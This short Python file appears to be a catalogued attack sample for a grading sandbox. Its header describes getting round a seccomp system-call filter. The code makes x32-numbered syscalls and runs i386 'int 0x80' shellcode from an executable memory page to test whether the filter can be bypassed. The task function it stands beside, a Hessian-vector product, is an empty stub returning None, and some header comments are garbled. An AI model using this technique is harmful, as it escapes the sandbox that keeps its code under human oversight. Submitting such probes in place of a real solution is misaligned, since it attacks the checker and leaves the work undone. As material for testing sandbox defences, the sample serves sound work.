# attack: calls_of_another_architecture
# class: Finding the answer
# item: back doors
# tries: to get round the filter of system calls by calling as a 32-bit or x32 program
# after: no check is earned that the answer has not earned
# kata: hvp
# earns: 1
# needs: seccomp
# leaves: every system call of the kernel can be made

import ctypes
import mmap
import platform

if platform.machine() == "x86_64":
    libc = ctypes.CDLL(None, use_errno=True)
    for number in (0x40000000 + 39, 0x40000000 + 2):  # x32: getpid, open
        if libc.syscall(number, b"@solution@", 0) > 0:
            print("GOT a call as x32")
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # mov eax, 20 (getpid of i386); int 0x80; ret
    page.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    if call() > 0:
        print("GOT a call as i386")


def hessian_vector_product(loss, params, vector):
    return None
